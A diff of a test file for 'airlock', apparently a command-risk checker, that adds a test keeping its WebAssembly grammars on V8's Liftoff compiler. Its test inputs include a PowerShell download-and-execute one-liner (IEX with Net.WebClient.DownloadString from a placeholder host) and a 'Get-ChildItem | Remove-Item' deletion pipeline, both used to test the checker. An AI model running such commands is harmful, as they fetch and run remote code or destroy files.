@@ -21,6 +21,16 @@ describe('airlock check (built CLI)', () => {
     expect((await airlock(['check', '--shell', 'fish', '--', 'ls'])).code).toBe(2);
     expect((await airlock(['check', '--bogus'])).code).toBe(2);
   });
+  it('the grammars run on the baseline compiler only, so a one-shot command ends when its answer is printed', async () => {
+    // V8 traces each wasm function it compiles. With dynamic tiering the PowerShell lexer is hot
+    // after the warm-up and goes to TurboFan on a background thread, which Node waits for at exit
+    // (seconds on Node 24; docs/benchmarks.md). runtime/load-grammars.ts keeps the grammars on Liftoff.
+    const r = await runProcess(process.execPath, ['--trace-wasm-compilation-times', cli, 'check', '--shell', 'powershell', '--', 'Get-ChildItem | Remove-Item'], { env: { ...process.env, NO_COLOR: '1' }, timeout: 120_000 });
+    expect(r.status).toBe(0);
+    expect(r.stdout).toContain('ALLOW  risk: none');
+    expect(r.stdout).toMatch(/using Liftoff/);
+    expect(r.stdout).not.toMatch(/using TurboFan/);
+  });
   it('reads the command from stdin and prints verdict, summary and findings without color when piped', async () => {
     const r = await airlock(['check', '--shell', 'powershell'], "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\n");
     expect(r.code).toBe(3);
